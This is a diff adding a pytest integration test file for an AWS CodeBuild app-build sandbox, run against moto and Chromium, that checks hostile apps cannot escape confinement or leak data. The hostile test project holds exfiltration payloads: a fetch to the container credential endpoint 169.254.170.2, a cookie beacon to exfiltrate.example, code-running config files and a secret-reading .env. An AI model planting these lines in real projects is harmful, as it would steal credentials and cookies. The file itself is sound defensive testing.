@@ -1,0 +1,281 @@
+"""The AWS build's in-box program run here as CodeBuild would run the buildspec: the real
+toolchain, Vite and Chromium, S3 on moto's server (so the build's presigned links work over
+HTTP), the build's environment as StartBuild sets it plus what a CodeBuild container adds
+(its role's endpoint, ambient keys: canaries here). Hostile apps aim at the AWS builder path:
+build configuration that would run code, runtime code that reaches for the container's
+credentials, other origins and loopback services, and other apps' objects in the bucket.
+Nothing of another app, no credential, no marker."""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import subprocess
+import urllib.error
+import urllib.request
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import boto3
+import pytest
+from botocore.stub import Stubber
+
+from tests.aws_standins import CONTAINER_CANARIES, CodeBuildRun, run_the_buildspec
+from tests.integration.adapters.test_chromium_covers import Secret, chromium_or_skip, hostile_page
+from tests.integration.publishing.test_vue_template_builds import created_files
+from zerocode.adapters.aws import build_handoff as handoff
+from zerocode.adapters.aws.build_check import BuildCheckResult
+from zerocode.adapters.aws.codebuild_builder import CodeBuildBuilder
+from zerocode.adapters.local.toolchain_store import ToolchainStore
+from zerocode.apps.records import CodeGenType
+from zerocode.apps.workspace import Snapshot
+from zerocode.bootstrap.settings import Settings
+from zerocode.publishing.builds import BuildJob, BuildOutcome, new_build_id
+
+BUCKET = "zc-builds"
+CANARIES = CONTAINER_CANARIES
+# What no program the build starts may see.
+WATCHED = (*CANARIES, "ZEROCODE_SOURCE_URL", "AWS_SESSION_TOKEN")
+OTHER_APP = {
+    "sources/appB/b1.zip": b"app B's source",
+    "staging/appB/b1.tar": b"app B's output",
+    "builds/appB/b1/index.html": b"<h1>app B's site</h1>",
+    "checks/appB/b1.json": b'{"checked": true, "problems": []}',
+    "workspaces/appB/src/App.vue": b"<template>B</template>",
+}
+
+
+@pytest.fixture(scope="module")
+def moto_url() -> Iterator[str]:
+    from moto.server import ThreadedMotoServer
+
+    server = ThreadedMotoServer(ip_address="127.0.0.1", port=0, verbose=False)
+    server.start()
+    try:
+        yield f"http://127.0.0.1:{server._server.server_port}"  # type: ignore[union-attr]
+    finally:
+        server.stop()
+
+
+@pytest.fixture
+def cloud(moto_url: str, monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
+    for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"):
+        monkeypatch.setenv(name, "testing")
+    monkeypatch.setenv("AWS_DEFAULT_REGION", "us-east-1")
+
+    def make(service: str) -> Any:
+        return boto3.client(service, endpoint_url=moto_url)
+
+    s3 = make("s3")
+    bucket = f"{BUCKET}-{new_build_id()[-6:]}"
+    s3.create_bucket(Bucket=bucket)
+    for key, body in OTHER_APP.items():
+        s3.put_object(Bucket=bucket, Key=key, Body=body)
+    role = make("iam").create_role(RoleName=f"data-{bucket}", AssumeRolePolicyDocument="{}")[
+        "Role"
+    ]["Arn"]
+    builder = CodeBuildBuilder(
+        make("codebuild"), s3, "zc-project", bucket, sts=make("sts"), data_role_arn=role
+    )
+    return {"s3": s3, "bucket": bucket, "builder": builder}
+
+
+@pytest.fixture(scope="module")
+def installed_toolchain(toolchain_dir: Path) -> Path:
+    import asyncio
+
+    modules, why = asyncio.run(ToolchainStore(toolchain_dir, Settings().npm_cache).ensure())
+    assert modules is not None, why
+    return modules.parent
+
+
+def wrappers(bin_dir: Path, state: Path) -> None:
+    """``node`` that writes down which WATCHED variables it was started with, then runs."""
+    bin_dir.mkdir()
+    real = shutil.which("node")
+    assert real, "node is not installed"
+    (bin_dir / "node").write_text(
+        "#!/bin/bash\n"
+        f'echo node >> "{state}/ran.log"\n'
+        f"for v in {' '.join(WATCHED)}; do\n"
+        f'  if printenv "$v" >/dev/null; then echo "node: $v" >> "{state}/seen.log"; fi\n'
+        "done\n"
+        f'exec {real} "$@"\n'
+    )
+    (bin_dir / "node").chmod(0o755)
+
+
+def run_build(
+    cloud: dict[str, Any], build: BuildJob, toolchain: Path, tmp: Path
+) -> tuple[subprocess.CompletedProcess[str], BuildOutcome, dict[str, str]]:
+    """Start ``build`` (StartBuild stubbed: the request is what matters), run the buildspec's
+    one command with the environment CodeBuild would give it, then finish as build_events
+    would. Returns the run, the outcome and the build's variables."""
+    builder: CodeBuildBuilder = cloud["builder"]
+    sent: list[dict[str, Any]] = []
+    builder.codebuild.meta.events.register(
+        "before-parameter-build.codebuild.StartBuild",
+        lambda params, **kw: sent.append(dict(params)),
+    )
+    with Stubber(builder.codebuild) as stub:
+        stub.add_response("start_build", {"build": {"id": "zc-project:1"}}, None)
+        assert builder.start(build) == "zc-project:1"
+    variables = {v["name"]: v["value"] for v in sent[-1]["environmentVariablesOverride"]}
+    state = tmp / "state"
+    state.mkdir()
+    wrappers(tmp / "bin", state)
+    done = run_the_buildspec(
+        CodeBuildRun("zc-project:1", "zc-project", sent[-1]),
+        toolchain=toolchain,
+        chromium=chromium_or_skip(),
+        workdir=tmp / "work",
+        path=f"{tmp / 'bin'}:{os.environ['PATH']}",
+    )
+    status = "SUCCEEDED" if done.returncode == 0 else "FAILED"
+    with Stubber(builder.codebuild) as stub:
+        stub.add_response(
+            "batch_get_builds",
+            {"builds": [{"id": "zc-project:1", "buildStatus": status}]},
+            {"ids": ["zc-project:1"]},
+        )
+        outcome = builder.outcome(build.app_id, build.build_id, "zc-project:1")
+    assert outcome is not None
+    return done, outcome, variables
+
+
+def vue_build(files: dict[str, bytes], *, preview: bool = False) -> BuildJob:
+    return BuildJob(
+        app_id="app1",
+        build_id=new_build_id(),
+        kind=CodeGenType.VUE_PROJECT,
+        source=Snapshot.of(files),
+        preview=preview,
+    )
+
+
+def bucket_state(cloud: dict[str, Any]) -> dict[str, bytes]:
+    s3, bucket = cloud["s3"], cloud["bucket"]
+    found = s3.list_objects_v2(Bucket=bucket).get("Contents", [])
+    return {o["Key"]: s3.get_object(Bucket=bucket, Key=o["Key"])["Body"].read() for o in found}
+
+
+def assert_nothing_leaked(
+    cloud: dict[str, Any], done: subprocess.CompletedProcess[str], tmp: Path, secrets: list[str]
+) -> dict[str, bytes]:
+    """Another app's objects are as they were; no canary in the bucket, the log or the
+    outcome; Node never saw a credential or the source link."""
+    objects = bucket_state(cloud)
+    assert {k: objects.get(k) for k in OTHER_APP} == OTHER_APP
+    everything = b"".join(objects.values()) + (done.stdout + done.stderr).encode()
+    for secret in secrets:
+        assert secret.encode() not in everything, secret
+    assert not (tmp / "state" / "seen.log").exists(), (tmp / "state" / "seen.log").read_text()
+    return objects
+
+
+def test_a_hostile_vue_project_builds_in_the_box_with_nothing_but_its_own_links(
+    cloud: dict[str, Any], installed_toolchain: Path, tmp_path: Path
+) -> None:
+    secret = Secret()
+    secret.start()
+    try:
+        files = {p: c.encode() for p, c in created_files("A Vue todo list").items()}
+        package = json.loads(files["package.json"])
+        package["scripts"] = {"postinstall": "touch /tmp/pwned-aws", "build": "touch pwned"}
+        files["package.json"] = json.dumps(package).encode()
+        runs_code = b"require('node:fs').writeFileSync('/tmp/pwned-aws', 'x')\n"
+        for config in ("vite.config.js", "postcss.config.js", "tailwind.config.js"):
+            files[config] = runs_code
+        files[".env"] = b"VITE_LEAK=%AWS_SECRET_ACCESS_KEY%"
+        files["src/main.js"] += (
+            f"\nfetch('http://127.0.0.1:{secret.port}/v2/credentials/guess')"
+            ".catch(() => {})\n"
+            "fetch('http://169.254.170.2/v2/credentials').catch(() => {})\n"
+            "new Image().src = 'https://exfiltrate.example/?k=' + document.cookie\n"
+        ).encode()
+        build = vue_build(files)
+        done, outcome, variables = run_build(cloud, build, installed_toolchain, tmp_path)
+    finally:
+        secret.close()
+    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
+    assert outcome.ok, outcome
+    assert "node" in (tmp_path / "state" / "ran.log").read_text()
+    assert not Path("/tmp/pwned-aws").exists() and not list(tmp_path.rglob("pwned*"))
+    assert secret.connections == 0 and secret.packets == 0
+    objects = assert_nothing_leaked(cloud, done, tmp_path, list(CANARIES.values()))
+    prefix = f"builds/app1/{build.build_id}/"
+    site = {k.removeprefix(prefix) for k in objects if k.startswith(prefix)}
+    assert "index.html" in site and any(p.startswith("assets/") for p in site)
+    assert objects[prefix + handoff.COVER_PATH].startswith(handoff.PNG_MAGIC)  # a deploy
+    assert cloud["builder"].cover("app1", build.build_id) == handoff.COVER_PATH
+    # The build's check found nothing wrong: what the confinement blocked is not the page's.
+    assert BuildCheckResult(cloud["s3"], cloud["bucket"]).read("app1", build.build_id) == []
+    # Only this build's own objects were written; its source and staging archive are gone,
+    # so the one link in its record opens nothing now.
+    mine = {k for k in objects if k not in OTHER_APP}
+    assert mine == {f"{prefix}{p}" for p in site} | {f"checks/app1/{build.build_id}.json"}
+    with pytest.raises(urllib.error.HTTPError) as gone:
+        urllib.request.urlopen(variables["ZEROCODE_SOURCE_URL"], timeout=10)
+    assert gone.value.code in (403, 404)
+
+
+def test_a_runtime_error_is_found_in_the_build_and_a_preview_gets_the_picker(
+    cloud: dict[str, Any], installed_toolchain: Path, tmp_path: Path
+) -> None:
+    files = {p: c.encode() for p, c in created_files("A Vue todo list").items()}
+    files["src/main.js"] = b"throw new Error('zerocode-in-build-boom')\n" + files["src/main.js"]
+    build = vue_build(files, preview=True)
+    done, outcome, _ = run_build(cloud, build, installed_toolchain, tmp_path)
+    assert done.returncode == 0 and outcome.ok, done.stdout[-3000:]
+    problems = BuildCheckResult(cloud["s3"], cloud["bucket"]).read("app1", build.build_id)
+    assert problems is not None
+    assert any("zerocode-in-build-boom" in p for p in problems), problems
+    assert any("empty mount point" in p for p in problems), problems
+    assert not any("127.0.0.1" in p for p in problems)  # the build's origin is cut out
+    objects = bucket_state(cloud)
+    prefix = f"builds/app1/{build.build_id}/"
+    assert b'<script src="__zerocode/picker.js" defer></script>' in objects[prefix + "index.html"]
+    assert prefix + "__zerocode/picker.js" in objects
+    assert prefix + handoff.COVER_PATH not in objects  # previews take no cover
+
+
+def test_a_broken_project_fails_with_vites_own_message(
+    cloud: dict[str, Any], installed_toolchain: Path, tmp_path: Path
+) -> None:
+    files = {p: c.encode() for p, c in created_files("A Vue todo list").items()}
+    files["src/App.vue"] = b"<template><div><span></div></template>\n"
+    build = vue_build(files)
+    done, outcome, _ = run_build(cloud, build, installed_toolchain, tmp_path)
+    assert done.returncode == 1
+    assert not outcome.ok and "did not build" in (outcome.error or "")
+    assert "App.vue" in outcome.log_tail and "vite build failed" in outcome.log_tail
+    assert not any(k.startswith("builds/app1/") for k in bucket_state(cloud))
+
+
+def test_a_hostile_html_page_is_checked_confined_and_gets_a_cover(
+    cloud: dict[str, Any], installed_toolchain: Path, tmp_path: Path
+) -> None:
+    """The page of the browser-confinement tests, aimed at the build's browser: loopback
+    services, the metadata address, WebRTC, workers, forms. None of it reaches anything."""
+    secret = Secret()
+    secret.start()
+    try:
+        build = BuildJob(
+            app_id="app1",
+            build_id=new_build_id(),
+            kind=CodeGenType.HTML,
+            source=Snapshot.of(
+                {"index.html": hostile_page(secret.port).encode(), "own.css": b"h1 { color: teal }"}
+            ),
+        )
+        done, outcome, _ = run_build(cloud, build, installed_toolchain, tmp_path)
+    finally:
+        secret.close()
+    assert done.returncode == 0 and outcome.ok, done.stdout[-3000:]
+    assert secret.connections == 0 and secret.packets == 0
+    assert BuildCheckResult(cloud["s3"], cloud["bucket"]).read("app1", build.build_id) == []
+    objects = assert_nothing_leaked(cloud, done, tmp_path, list(CANARIES.values()))
+    cover = objects[f"builds/app1/{build.build_id}/{handoff.COVER_PATH}"]
+    assert cover.startswith(handoff.PNG_MAGIC)
